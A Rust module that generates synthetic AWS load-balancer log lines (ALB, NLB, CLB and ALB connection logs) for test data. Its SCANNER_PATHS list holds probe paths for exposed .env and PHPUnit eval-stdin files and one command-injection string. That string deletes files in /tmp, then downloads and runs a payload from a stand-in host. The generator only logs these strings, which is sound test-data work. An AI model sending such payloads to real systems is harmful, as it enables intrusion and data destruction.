//! Elastic Load Balancing logs as one load balancer node writes them (spec §4): ALB access
//! logs, NLB access logs (TLS listeners), CLB access logs and ALB connection logs.
//!
//! ALB lines have the 30 fields of 2024 (through `conn_trace_id`); one line in five has the 33
//! of 2025 (the three transform fields, mostly `"-"`). Requests come on client connections
//! that stay open for several requests: a connection keeps its client address and port, its
//! `TID_` trace id, its listener (HTTP on port 80, HTTPS on 443), its TLS cipher, SNI and user
//! agent. The mix: `h2`, `https`, `http`, a few `grpcs`, `ws` and `wss`; IPv4 clients and some
//! IPv6 (written without brackets); plain-HTTP requests mostly redirected to HTTPS; requests
//! forwarded to targets of four target groups (one a Lambda function) with a status mix; about
//! 2% failed with no target (`-`), `-1` times and a 460, 502 or 504; fixed responses, WAF
//! blocks, malformed requests (`"- http://host:80- -"`) and scanners (raw `\xHH` escapes, a
//! space in the URL) now and then.

use std::fmt::Write as _;

use super::{Generator, Rng, client_ip, fresh_ip, tracking_query, user_agent};

const HEX_UPPER: &[u8] = b"0123456789ABCDEF";
const ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";

/// How a time is written: ALB and CLB `time` (microseconds, `Z`), ALB `request_creation_time`
/// (milliseconds written as microseconds), NLB (whole seconds, no `Z`).
#[derive(Clone, Copy)]
enum Precision {
    Micros,
    Millis,
    Seconds,
}

/// Writes `us` (microseconds since the epoch) as an ISO 8601 UTC time.
fn iso(out: &mut String, us: i64, precision: Precision) {
    let secs = us.div_euclid(1_000_000);
    let (y, mo, d) = super::civil(secs.div_euclid(86_400));
    let sod = secs.rem_euclid(86_400);
    write!(
        out,
        "{y}-{mo:02}-{d:02}T{:02}:{:02}:{:02}",
        sod / 3600,
        sod / 60 % 60,
        sod % 60
    )
    .unwrap();
    let frac = us.rem_euclid(1_000_000);
    match precision {
        Precision::Micros => write!(out, ".{frac:06}Z").unwrap(),
        Precision::Millis => write!(out, ".{:03}000Z", frac / 1000).unwrap(),
        Precision::Seconds => {}
    }
}

/// Seconds with millisecond precision (ALB), or `-1`.
fn seconds3(out: &mut String, ms: Option<u64>) {
    match ms {
        Some(ms) => write!(out, "{}.{:03}", ms / 1000, ms % 1000).unwrap(),
        None => out.push_str("-1"),
    }
}

/// Seconds with up to six decimals and the trailing zeros dropped (CLB: `0.00079`), or `-1`.
fn seconds6(out: &mut String, us: Option<u64>) {
    let Some(us) = us else {
        out.push_str("-1");
        return;
    };
    let start = out.len();
    write!(out, "{}.{:06}", us / 1_000_000, us % 1_000_000).unwrap();
    while out.ends_with('0') && !out[start..].ends_with(".0") {
        out.pop();
    }
}

/// A random number below `usual`, or below `long` for `percent` percent of draws.
fn long_tail(rng: &mut Rng, percent: u64, usual: u64, long: u64) -> u64 {
    let n = if rng.chance(percent) { long } else { usual };
    rng.below(n)
}

/// The part of a site a request goes to, which picks its target group.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Site {
    Web,
    Api,
    Grpc,
}

/// A client connection to the ALB: what its requests share.
struct Conn {
    /// `ip:port` (IPv6 without brackets, as ALB writes it).
    client: String,
    tid: String,
    /// `http`, `https`, `h2` or `grpcs`.
    proto: &'static str,
    /// Cipher and protocol of a TLS listener.
    tls: Option<(&'static str, &'static str)>,
    host: &'static str,
    site: Site,
    /// The certificate chosen, or `None` for a resumed TLS session (`session-reused`).
    cert: Option<usize>,
    ua: &'static str,
    /// Requests still to come on it.
    left: u32,
}

struct TargetGroup {
    arn: String,
    /// `ip:port` of each target; empty for a Lambda function.
    targets: Vec<String>,
}

/// The load balancers and what the ELB generators keep between lines.
pub(super) struct Elb {
    /// `app/<name>/<id>`.
    alb: String,
    /// `net/<name>/<id>` and its listener id.
    nlb: String,
    nlb_listener: String,
    /// The IP addresses of the load balancer nodes.
    nodes: Vec<String>,
    clb: &'static str,
    /// Web, API, Lambda (webhooks) and gRPC target groups.
    groups: [TargetGroup; 4],
    certs: Vec<String>,
    conns: Vec<Conn>,
}

const SITES_WEB: [&str; 3] = ["www.example.com", "example.com", "shop.example.com"];

const API_AGENTS: [&str; 7] = [
    "okhttp/4.12.0",
    "ExampleShop/5.12.1 (iPhone; iOS 18.1; Scale/3.00)",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240905.003)",
    "python-requests/2.32.3",
    "axios/1.7.7",
    "Go-http-client/2.0",
    "aws-sdk-js/3.687.0 ua/2.1 os/linux#5.10.227 lang/js md/nodejs#20.18.0 api/lambda#3.687.0",
];

const GRPC_AGENTS: [&str; 3] = [
    "grpc-go/1.68.0",
    "grpc-java-netty/1.68.1",
    "grpc-node-js/1.12.2",
];

/// Scanner user agents (one of them logged with a `\x22` escape) and paths (one with a space,
/// one with raw UTF-8 logged as `\xHH`).
const SCANNER_AGENTS: [&str; 4] = [
    "Mozilla/5.0 zgrab/0.x",
    "-",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "\\x22Mozilla/5.0\\x22 (X11; Linux x86_64)",
];
const SCANNER_PATHS: [&str; 6] = [
    "/.env",
    "/wp-login.php",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write",
    "/shell?cd+/tmp;rm+-rf+*;wget+ a.example.net/jaws;sh+/tmp/jaws",
    "/caf\\xc3\\xa9/index.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];

const TLS12: [(&str, &str); 2] = [
    ("ECDHE-RSA-AES128-GCM-SHA256", "TLSv1.2"),
    ("ECDHE-RSA-AES256-GCM-SHA384", "TLSv1.2"),
];
const TLS13: [(&str, &str); 2] = [
    ("TLS_AES_128_GCM_SHA256", "TLSv1.3"),
    ("TLS_AES_256_GCM_SHA384", "TLSv1.3"),
];

fn tls(rng: &mut Rng) -> (&'static str, &'static str) {
    let list = if rng.chance(70) { &TLS13 } else { &TLS12 };
    list[rng.below(2) as usize]
}

const TERMS: [&str; 8] = [
    "running+shoes",
    "laptop",
    "coffee%20grinder",
    "gift+card",
    "%22wireless+earbuds%22",
    "desk",
    "kids+bike",
    "tent",
];

impl Elb {
    pub(super) fn new(rng: &mut Rng) -> Self {
        let account = format!("{:012}", 100_000_000_000 + rng.below(900_000_000_000));
        let region = rng.pick(&["us-east-2", "eu-west-1", "ap-southeast-2"]);
        let alb = format!("app/prod-web/{}", rng.hex(16, false));
        let nlb = format!("net/prod-tls/{}", rng.hex(16, false));
        let nlb_listener = rng.hex(16, false);
        let nodes = (0..3)
            .map(|_| format!("172.31.{}.{}", rng.below(256), 1 + rng.below(254)))
            .collect();
        let mut group = |name: &str, targets: usize, port: u16| TargetGroup {
            arn: format!(
                "arn:aws:elasticloadbalancing:{region}:{account}:targetgroup/{name}/{}",
                rng.hex(16, false)
            ),
            targets: (0..targets)
                .map(|_| format!("10.0.{}.{}:{port}", rng.below(64), 1 + rng.below(254)))
                .collect(),
        };
        let groups = [
            group("web-frontend", 12, 8080),
            group("orders-api", 8, 8443),
            group("webhooks-lambda", 0, 0),
            group("grpc-backend", 4, 50051),
        ];
        let certs = (0..2)
            .map(|_| {
                format!(
                    "arn:aws:acm:{region}:{account}:certificate/{}-{}-{}-{}-{}",
                    rng.hex(8, false),
                    rng.hex(4, false),
                    rng.hex(4, false),
                    rng.hex(4, false),
                    rng.hex(12, false)
                )
            })
            .collect();
        Elb {
            alb,
            nlb,
            nlb_listener,
            nodes,
            clb: "legacy-web",
            groups,
            certs,
            conns: Vec::new(),
        }
    }
}

/// A new client connection.
fn connection(rng: &mut Rng, ips: &[String], certs: usize) -> Conn {
    let client = format!("{}:{}", client_ip(rng, ips), 1024 + rng.below(64_511));
    let site = match rng.below(100) {
        0..=59 => Site::Web,
        60..=98 => Site::Api,
        _ => Site::Grpc,
    };
    let proto = match (site, rng.below(100)) {
        (Site::Grpc, _) => "grpcs",
        (_, 0..=14) => "http",
        (Site::Web, 15..=69) | (Site::Api, 15..=39) => "h2",
        _ => "https",
    };
    let host = match site {
        Site::Web => rng.pick(&SITES_WEB),
        Site::Api => "api.example.com",
        Site::Grpc => "grpc.example.com",
    };
    let ua = match site {
        Site::Web => user_agent(rng),
        Site::Api => rng.pick(&API_AGENTS),
        Site::Grpc => rng.pick(&GRPC_AGENTS),
    };
    let tls = (proto != "http").then(|| tls(rng));
    let cert = if rng.chance(15) {
        None
    } else {
        Some(rng.below(certs as u64) as usize)
    };
    let most = if matches!(proto, "h2" | "grpcs") {
        40
    } else {
        12
    };
    Conn {
        client,
        tid: format!("TID_{}", rng.hex(32, false)),
        proto,
        tls,
        host,
        site,
        cert,
        ua,
        left: 1 + rng.below(most) as u32,
    }
}

/// What happened to an ALB request.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Outcome {
    /// Forwarded to a target (or the Lambda function), which answered.
    Forward,
    /// Redirected by a listener rule (HTTP → HTTPS).
    Redirect,
    FixedResponse,
    WafBlock,
    /// No target: the client closed (460), a bad gateway (502) or a timeout (504).
    Failed,
    /// Not a parsable HTTP request (400).
    Malformed,
    /// A WebSocket upgrade (101), which ends the connection.
    WebSocket,
}

/// How the load balancer answered an ALB request.
struct Response<'a> {
    /// The target's `ip:port`, if one was reached.
    target: Option<&'a str>,
    status: u16,
    target_status: Option<u16>,
    /// Request, target and response processing times in milliseconds (`None`: `-1`).
    times: [Option<u64>; 3],
    actions: &'static str,
    /// `matched_rule_priority`.
    rule: &'static str,
    redirect: Option<String>,
    error: &'static str,
}

impl Response<'_> {
    /// An answer with no target reached: no target status, `-1` times.
    fn untargeted(status: u16, actions: &'static str, rule: &'static str) -> Self {
        Response {
            target: None,
            status,
            target_status: None,
            times: [None; 3],
            actions,
            rule,
            redirect: None,
            error: "-",
        }
    }
}

/// A request path (with its query string) and method for a part of the site.
fn request_path(rng: &mut Rng, site: Site) -> (&'static str, String) {
    let mut path = match site {
        Site::Web => match rng.below(20) {
            0..=3 => format!(
                "/static/js/{}.{}.js",
                rng.pick(&["main", "vendor", "runtime"]),
                rng.hex(8, false)
            ),
            4..=5 => format!("/static/css/app.{}.css", rng.hex(8, false)),
            6..=8 => format!(
                "/images/products/{}-{}x{}.webp",
                10_000 + rng.below(5_000),
                rng.pick(&["320", "640", "1280"]),
                rng.pick(&["240", "480", "960"])
            ),
            9..=12 => format!(
                "/products/{}-{}",
                rng.pick(&[
                    "trail-runner",
                    "espresso-machine",
                    "wool-sweater",
                    "led-desk-lamp",
                    "yoga-mat"
                ]),
                10_000 + rng.below(5_000)
            ),
            13..=14 => "/".to_string(),
            15 => format!("/search?q={}&page={}", rng.pick(&TERMS), 1 + rng.below(5)),
            16 => format!(
                "/blog/2024/{:02}/{}",
                1 + rng.below(12),
                rng.chars(12, ALNUM)
            ),
            17 => rng
                .pick(&[
                    "/cart",
                    "/checkout",
                    "/account/orders",
                    "/login?next=%2Faccount%2Forders",
                ])
                .to_string(),
            18 => "/favicon.ico".to_string(),
            _ => format!(
                "/api/recommendations?product={}&limit=12",
                10_000 + rng.below(5_000)
            ),
        },
        Site::Api => match rng.below(10) {
            0..=3 => format!("/api/v1/orders/{}", 4_000_000 + rng.below(1_000_000)),
            4 => format!(
                "/api/v1/orders?status={}&limit=50&cursor={}",
                rng.pick(&["open", "shipped", "cancelled"]),
                rng.chars(24, ALNUM)
            ),
            5 => format!(
                "/api/v2/users/{}-{}-{}-{}-{}/sessions",
                rng.hex(8, false),
                rng.hex(4, false),
                rng.hex(4, false),
                rng.hex(4, false),
                rng.hex(12, false)
            ),
            6 => format!(
                "/api/v1/products/{}/reviews?page={}",
                10_000 + rng.below(5_000),
                1 + rng.below(9)
            ),
            7 => "/graphql".to_string(),
            8 => "/api/v1/auth/token".to_string(),
            _ if rng.chance(25) => {
                format!("/webhooks/{}", rng.pick(&["stripe", "github", "shipping"]))
            }
            _ => format!("/api/v1/orders/{}/items", 4_000_000 + rng.below(1_000_000)),
        },
        Site::Grpc => format!(
            "/{}",
            rng.pick(&[
                "orders.v1.OrderService/GetOrder",
                "orders.v1.OrderService/ListOrders",
                "inventory.v2.StockService/Reserve",
                "grpc.health.v1.Health/Check",
            ])
        ),
    };
    if site == Site::Web && !path.contains('?') && rng.chance(12) {
        path.push('?');
        path.push_str(&tracking_query(rng));
    }
    let method = match site {
        Site::Grpc => "POST",
        Site::Web => rng.pick(&[
            "GET", "GET", "GET", "GET", "GET", "GET", "GET", "GET", "GET", "POST", "HEAD",
            "OPTIONS",
        ]),
        Site::Api
            if path.starts_with("/graphql")
                || path.starts_with("/webhooks")
                || path.ends_with("/token") =>
        {
            "POST"
        }
        Site::Api => rng.pick(&[
            "GET", "GET", "GET", "GET", "GET", "GET", "POST", "PUT", "DELETE", "PATCH",
        ]),
    };
    (method, path)
}

/// The status of a response from a target.
fn response_status(rng: &mut Rng, method: &str) -> u16 {
    let r = rng.below(1000);
    match (method, r) {
        ("POST", 0..=599) => 200,
        ("POST", 600..=849) => 201,
        (_, 0..=779) => 200,
        (_, 780..=849) => 304,
        (_, 850..=869) => 204,
        (_, 870..=889) => 302,
        (_, 890..=909) => 400,
        (_, 910..=929) => 401,
        (_, 930..=939) => 403,
        (_, 940..=984) => 404,
        (_, 985..=994) => 500,
        _ => 503,
    }
}

/// Response bytes (headers included) for a status and a part of the site.
fn response_bytes(rng: &mut Rng, status: u16, path: &str) -> u64 {
    let headers = 250 + rng.below(300);
    headers
        + match status {
            200 if path.starts_with("/images") => 8_000 + rng.below(400_000),
            200 if path.starts_with("/static") => 2_000 + rng.below(900_000),
            200 | 201 => 200 + rng.below(40_000),
            204 | 304 | 101 => 0,
            301 | 302 => rng.below(200),
            _ => 100 + rng.below(600),
        }
}

impl Generator {
    /// Microseconds of the next line's time.
    fn elb_time(&mut self) -> i64 {
        self.tick() * 1000 + self.rng.below(1000) as i64
    }

    /// One ALB access log line.
    pub(super) fn alb(&mut self, out: &mut String) {
        let t = self.elb_time();
        let elb = self.elb.as_mut().expect("an ELB generator");
        let rng = &mut self.rng;
        // A scanner: one request on a connection of its own, on the HTTP listener.
        let scanner = rng.chance(1);
        if elb.conns.len() < 256 {
            let conn = connection(rng, &self.ips, elb.certs.len());
            elb.conns.push(conn);
        }
        let slot = rng.below(elb.conns.len() as u64) as usize;
        let scan_conn;
        let conn = if scanner {
            scan_conn = Conn {
                client: format!("{}:{}", fresh_ip(rng), 1024 + rng.below(64_511)),
                tid: format!("TID_{}", rng.hex(32, false)),
                proto: "http",
                tls: None,
                host: "",
                site: Site::Web,
                cert: None,
                ua: rng.pick(&SCANNER_AGENTS),
                left: 1,
            };
            &scan_conn
        } else {
            &elb.conns[slot]
        };
        let (method, mut path) = request_path(rng, conn.site);
        let r = rng.below(1000);
        let outcome = match (conn.proto, r) {
            _ if scanner => {
                path = rng.pick(&SCANNER_PATHS).to_string();
                Outcome::Forward
            }
            (_, 0..=19) => Outcome::Failed,
            (_, 20..=22) => Outcome::Malformed,
            ("http" | "https", 23..=37) if conn.site == Site::Web => Outcome::WebSocket,
            ("http", _) if conn.site == Site::Web && r < 700 => Outcome::Redirect,
            (_, 38..=47) => Outcome::WafBlock,
            (_, 48..=57) => Outcome::FixedResponse,
            _ => Outcome::Forward,
        };
        let tls = conn.tls;
        let https = tls.is_some();
        let kind = match outcome {
            Outcome::WebSocket if https => "wss",
            Outcome::WebSocket => "ws",
            Outcome::Malformed if https => "https",
            Outcome::Malformed => "http",
            _ => conn.proto,
        };
        if outcome == Outcome::WebSocket {
            path = format!(
                "/socket.io/?EIO=4&transport=websocket&sid={}",
                rng.chars(20, ALNUM)
            );
        }
        let method = if outcome == Outcome::WebSocket {
            "GET"
        } else {
            method
        };
        let group = match conn.site {
            Site::Web => 0,
            Site::Api if path.starts_with("/webhooks") => 2,
            Site::Api => 1,
            Site::Grpc => 3,
        };
        let lambda = group == 2;
        let tg = &elb.groups[group];
        let target = if tg.targets.is_empty() {
            None
        } else {
            Some(tg.targets[rng.below(tg.targets.len() as u64) as usize].as_str())
        };
        let host = if scanner {
            // Scanners ask for the node's address or the load balancer's DNS name.
            if rng.chance(50) {
                elb.nodes[0].as_str()
            } else {
                "prod-web-1234567890.elb.amazonaws.com"
            }
        } else {
            conn.host
        };

        let action_forward = if lambda {
            "forward"
        } else {
            rng.pick(&[
                "forward",
                "forward",
                "forward",
                "waf,forward",
                "waf,forward",
                "authenticate,forward",
            ])
        };
        let mut res = match outcome {
            Outcome::Forward | Outcome::WebSocket => {
                let status = if outcome == Outcome::WebSocket {
                    101
                } else if scanner {
                    [404, 404, 404, 400, 403][rng.below(5) as usize]
                } else {
                    response_status(rng, method)
                };
                let target_ms = if outcome == Outcome::WebSocket {
                    rng.below(5)
                } else if rng.chance(5) {
                    300 + rng.below(3000)
                } else {
                    1 + rng.below(if lambda { 400 } else { 60 })
                };
                let rule = if lambda {
                    "3"
                } else if conn.site == Site::Web {
                    "0"
                } else {
                    rng.pick(&["1", "2", "10"])
                };
                Response {
                    target,
                    status,
                    target_status: (!lambda || status < 500).then_some(status),
                    times: [Some(rng.below(3)), Some(target_ms), Some(0)],
                    ..Response::untargeted(
                        status,
                        if scanner { "forward" } else { action_forward },
                        rule,
                    )
                }
            }
            Outcome::Redirect => Response {
                redirect: Some(format!("https://{host}:443{path}")),
                ..Response::untargeted(301, "redirect", "1")
            },
            Outcome::FixedResponse => {
                let status = [200, 404, 503][rng.below(3) as usize];
                if status == 200 {
                    path = "/robots.txt".to_string();
                }
                Response::untargeted(status, "fixed-response", "20")
            }
            Outcome::WafBlock => Response::untargeted(403, "waf", "0"),
            Outcome::Failed => {
                let status = [460, 460, 502, 502, 504][rng.below(5) as usize];
                let rule = if rng.chance(5) { "-1" } else { "0" };
                Response {
                    error: if lambda && status == 502 {
                        rng.pick(&[
                            "LambdaInvalidResponse",
                            "LambdaUnhandled",
                            "LambdaThrottling",
                        ])
                    } else {
                        "-"
                    },
                    ..Response::untargeted(status, action_forward, rule)
                }
            }
            Outcome::Malformed => Response::untargeted(400, "-", "-"),
        };
        if lambda {
            res.target = None;
        }
        let Response {
            target: target_used,
            status,
            target_status,
            times,
            actions,
            rule,
            redirect,
            error,
        } = res;
        let elapsed_ms = times.iter().flatten().sum::<u64>()
            + if outcome == Outcome::WebSocket {
                // A WebSocket's line is written when it closes.
                1000 + rng.below(600_000)
            } else {
                rng.below(3)
            };
        let version = match kind {
            "h2" | "grpcs" => "HTTP/2.0",
            _ if rng.chance(2) => "HTTP/1.0",
            _ => "HTTP/1.1",
        };
        let received = match method {
            "POST" | "PUT" | "PATCH" => 400 + conn.ua.len() as u64 + rng.below(20_000),
            _ if outcome == Outcome::WebSocket => 500 + rng.below(200_000),
            _ if kind == "h2" => 40 + rng.below(300),
            _ => 150 + conn.ua.len() as u64 + rng.below(800),
        };
        let sent = match outcome {
            Outcome::Failed if status == 460 => 0,
            Outcome::WebSocket => 300 + rng.below(2_000_000),
            _ => response_bytes(rng, status, &path),
        };

        // type time elb client target
        out.push_str(kind);
        out.push(' ');
        iso(out, t, Precision::Micros);
        write!(out, " {} {} ", elb.alb, conn.client).unwrap();
        out.push_str(target_used.unwrap_or("-"));
        for time in times {
            out.push(' ');
            seconds3(out, time);
        }
        write!(out, " {status} ").unwrap();
        match target_status {
            Some(code) => write!(out, "{code}").unwrap(),
            None => out.push('-'),
        }
        write!(out, " {received} {sent} ").unwrap();
        // request, user_agent, ssl_cipher, ssl_protocol
        let (scheme, port) = if https { ("https", 443) } else { ("http", 80) };
        if outcome == Outcome::Malformed {
            write!(out, "\"- {scheme}://{host}:{port}- -\" \"-\" ").unwrap();
        } else {
            write!(
                out,
                "\"{method} {scheme}://{host}:{port}{path} {version}\" \"{}\" ",
                conn.ua
            )
            .unwrap();
        }
        match tls {
            Some((cipher, protocol)) => write!(out, "{cipher} {protocol} ").unwrap(),
            None => out.push_str("- - "),
        }
        // target_group_arn, trace_id
        match outcome {
            Outcome::Redirect | Outcome::FixedResponse | Outcome::WafBlock | Outcome::Malformed => {
                out.push('-')
            }
            _ => out.push_str(&tg.arn),
        }
        let secs = t.div_euclid(1_000_000);
        match (outcome, rng.below(20)) {
            (Outcome::Malformed, _) => out.push_str(" \"-\""),
            (_, 0) => write!(
                out,
                " \"Self=1-{secs:08x}-{};Root=1-{:08x}-{}\"",
                rng.hex(24, false),
                secs - 1,
                rng.hex(24, false)
            )
            .unwrap(),
            (_, 1) => write!(
                out,
                " \"Root=1-{secs:08x}-{};Parent={};Sampled=1\"",
                rng.hex(24, false),
                rng.hex(16, false)
            )
            .unwrap(),
            _ => write!(out, " \"Root=1-{secs:08x}-{}\"", rng.hex(24, false)).unwrap(),
        }
        // domain_name, chosen_cert_arn, matched_rule_priority
        match (tls, conn.cert) {
            (Some(_), Some(cert)) => write!(out, " \"{host}\" \"{}\" ", elb.certs[cert]).unwrap(),
            (Some(_), None) => write!(out, " \"{host}\" \"session-reused\" ").unwrap(),
            (None, _) => out.push_str(" \"-\" \"-\" "),
        }
        out.push_str(rule);
        out.push(' ');
        // request_creation_time: when the request came in.
        iso(
            out,
            t - elapsed_ms as i64 * 1000 - rng.below(1000) as i64,
            Precision::Millis,
        );
        write!(
            out,
            " \"{actions}\" \"{}\" \"{error}\" ",
            redirect.as_deref().unwrap_or("-")
        )
        .unwrap();
        match (target_used, target_status) {
            (Some(target), Some(code)) => write!(out, "\"{target}\" \"{code}\" ").unwrap(),
            (Some(target), None) => write!(out, "\"{target}\" \"-\" ").unwrap(),
            _ => out.push_str("\"-\" \"-\" "),
        }
        if path.contains(' ') {
            out.push_str("\"Acceptable\" \"SpaceInUri\" ");
        } else if scanner && rng.chance(20) {
            out.push_str("\"Ambiguous\" \"NonCompliantHeader\" ");
        } else {
            out.push_str("\"-\" \"-\" ");
        }
        out.push_str(&conn.tid);
        if rng.chance(20) {
            // The three transform fields of 2025.
            if conn.site == Site::Api && rng.chance(20) {
                write!(
                    out,
                    " \"orders.internal.example.com\" \"/v2{path}\" \"TransformSuccess\""
                )
                .unwrap();
            } else {
                out.push_str(" \"-\" \"-\" \"-\"");
            }
        }
        out.push('\n');

        if !scanner {
            let conn = &mut elb.conns[slot];
            conn.left = conn.left.saturating_sub(1);
            if conn.left == 0 || outcome == Outcome::WebSocket {
                elb.conns.swap_remove(slot);
            }
        }
    }

    /// One NLB access log line: a TLS connection, written when it closed (22 fields).
    pub(super) fn nlb(&mut self, out: &mut String) {
        let t = self.elb_time();
        let elb = self.elb.as_mut().expect("an ELB generator");
        let rng = &mut self.rng;
        let client = client_ip(rng, &self.ips);
        let node = &elb.nodes[rng.below(elb.nodes.len() as u64) as usize];
        // Failed handshakes (no TLS values) and the odd TLS alert.
        let failed = rng.chance(3);
        let connection_ms = if failed {
            rng.below(50)
        } else {
            10 + long_tail(rng, 10, 30_000, 3_600_000)
        };
        out.push_str("tls 2.0 ");
        iso(out, t, Precision::Seconds);
        write!(
            out,
            " {} {} {client}:{} {node}:443 {connection_ms} ",
            elb.nlb,
            elb.nlb_listener,
            1024 + rng.below(64_511)
        )
        .unwrap();
        if failed {
            let alert = rng.pick(&["-", "-", "46", "48", "40"]);
            write!(
                out,
                "- {} 0 {alert} - - - - - - - - -",
                100 + rng.below(400)
            )
            .unwrap();
        } else {
            let (cipher, protocol) = match rng.below(10) {
                0..=5 => ("TLS_AES_128_GCM_SHA256", "tlsv13"),
                6 => ("TLS_AES_256_GCM_SHA384", "tlsv13"),
                7..=8 => ("ECDHE-RSA-AES128-GCM-SHA256", "tlsv12"),
                _ => ("ECDHE-RSA-AES128-SHA", "tlsv12"),
            };
            let keyexchange = match (protocol, rng.below(10)) {
                ("tlsv13", 0..=5) => "x25519",
                ("tlsv13", 6) => "X25519MLKEM768",
                _ => "-",
            };
            let sni = rng.pick(&[
                "mqtt.example.com",
                "api.example.com",
                "-",
                "db-proxy.internal.example.com",
            ]);
            write!(
                out,
                "{} {} {} - {} - {cipher} {protocol} {keyexchange} {sni}",
                1 + rng.below(30),
                200 + rng.below(2_000_000),
                300 + rng.below(5_000_000),
                elb.certs[rng.below(elb.certs.len() as u64) as usize]
            )
            .unwrap();
            match rng.below(10) {
                0..=5 => out.push_str(" h2 h2 \"h2\",\"http/1.1\""),
                6..=7 => out.push_str(" http/1.1 http/1.1 \"http/1.1\""),
                _ => out.push_str(" - - -"),
            }
        }
        out.push(' ');
        iso(out, t - connection_ms as i64 * 1000, Precision::Seconds);
        out.push('\n');
    }

    /// One CLB access log line (15 fields): HTTP, HTTPS and TCP listeners.
    pub(super) fn clb(&mut self, out: &mut String) {
        let t = self.elb_time();
        let elb = self.elb.as_mut().expect("an ELB generator");
        let rng = &mut self.rng;
        let client = client_ip(rng, &self.ips);
        let listener = rng.below(100);
        let failed = rng.chance(2);
        let tg = &elb.groups[0];
        iso(out, t, Precision::Micros);
        write!(out, " {} {client}:{} ", elb.clb, 1024 + rng.below(64_511)).unwrap();
        if failed {
            out.push('-');
        } else {
            let backend = &tg.targets[rng.below(tg.targets.len() as u64) as usize];
            out.push_str(&backend[..backend.len() - 4]);
            out.push_str("80");
        }
        let times = if failed {
            [None, None, None]
        } else {
            [
                Some(10 + rng.below(200)),
                Some(300 + long_tail(rng, 5, 80_000, 5_000_000)),
                Some(10 + rng.below(100)),
            ]
        };
        for time in times {
            out.push(' ');
            seconds6(out, time);
        }
        if listener < 15 {
            // A TCP listener: no status codes, no request.
            write!(
                out,
                " - - {} {} \"- - - \" \"-\" - -",
                rng.below(200_000),
                rng.below(2_000_000)
            )
            .unwrap();
        } else {
            let https = listener >= 50;
            let (method, path) = request_path(rng, Site::Web);
            let status = if failed {
                *[503u16, 504].get(rng.below(2) as usize).unwrap()
            } else {
                response_status(rng, method)
            };
            write!(out, " {status} ").unwrap();
            if failed {
                out.push('-');
            } else {
                write!(out, "{status}").unwrap();
            }
            let received = if method == "POST" {
                100 + rng.below(20_000)
            } else {
                0
            };
            let sent = response_bytes(rng, status, &path).saturating_sub(250);
            let (scheme, port) = if https { ("https", 443) } else { ("http", 80) };
            let host = rng.pick(&SITES_WEB);
            write!(
                out,
                " {received} {sent} \"{method} {scheme}://{host}:{port}{path} HTTP/1.1\" \"{}\" ",
                user_agent(rng)
            )
            .unwrap();
            if https {
                out.push_str(rng.pick(&[
                    "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2",
                    "ECDHE-RSA-AES128-SHA TLSv1.2",
                    "DHE-RSA-AES128-SHA TLSv1",
                ]));
            } else {
                out.push_str("- -");
            }
        }
        out.push('\n');
    }

    /// One ALB connection log line (15 fields): HTTPS listeners (some with mutual TLS), the
    /// plain HTTP listener (every TLS field `-`), failed handshakes and client certificates.
    pub(super) fn alb_connection(&mut self, out: &mut String) {
        let t = self.elb_time();
        let elb = self.elb.as_mut().expect("an ELB generator");
        let rng = &mut self.rng;
        let ip = client_ip(rng, &self.ips);
        iso(out, t, Precision::Micros);
        let https = rng.chance(80);
        write!(
            out,
            " {ip} {} {} ",
            1024 + rng.below(64_511),
            if https { 443 } else { 80 }
        )
        .unwrap();
        if https {
            let (cipher, protocol) = tls(rng);
            let failed = rng.chance(2);
            write!(out, "{protocol} {cipher} ").unwrap();
            if failed {
                out.push('-');
            } else {
                seconds3(out, Some(1 + long_tail(rng, 5, 120, 5_000)));
            }
            if rng.chance(15) {
                // Mutual TLS: the client's certificate and its verification.
                let n = rng.below(500);
                let status = if failed {
                    rng.pick(&[
                        "Failed:ClientCertUntrusted",
                        "Failed:ClientCertExpired",
                        "Failed:UnmappedConnectionError",
                    ])
                } else {
                    "Success"
                };
                write!(
                    out,
                    " \"CN=device-{n}.iot.example.com,O=Example Corp,L=Seattle,ST=Washington,C=US\" NotBefore=2024-{:02}-{:02}T00:00:00Z;NotAfter=2026-{:02}-{:02}T23:59:59Z {} {status}",
                    1 + n % 12,
                    1 + n % 28,
                    1 + n % 12,
                    1 + n % 28,
                    rng.chars(16, HEX_UPPER)
                )
                .unwrap();
            } else {
                out.push_str(" \"-\" - - -");
            }
        } else {
            out.push_str("- - - \"-\" - - -");
        }
        let keyexchange = match (https, rng.below(10)) {
            (true, 0..=5) => "x25519",
            (true, 6) => "secp256r1",
            _ => "-",
        };
        let node = &elb.nodes[rng.below(elb.nodes.len() as u64) as usize];
        writeln!(
            out,
            " TID_{} {keyexchange} {} {node}",
            rng.hex(32, false),
            elb.alb
        )
        .unwrap();
    }
}
